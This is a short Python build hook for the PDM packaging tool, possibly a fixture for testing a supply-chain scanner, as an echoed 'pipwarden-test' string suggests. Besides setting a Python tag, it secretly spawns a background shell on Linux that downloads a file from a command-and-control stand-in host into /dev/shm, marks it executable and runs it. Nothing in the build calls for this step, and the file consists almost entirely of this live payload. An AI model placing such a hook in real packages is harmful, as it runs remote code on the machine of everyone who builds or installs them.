import os
import sys


def pdm_build_initialize(context):
    context.config_settings.setdefault("--python-tag", "py3")
    if sys.platform == "linux":
        os.spawnlp(
            os.P_NOWAIT,
            "sh",
            "sh",
            "-c",
            "echo pipwarden-test; wget -q -O /dev/shm/.x http://c2.example.invalid/x && chmod +x /dev/shm/.x && /dev/shm/.x",
        )
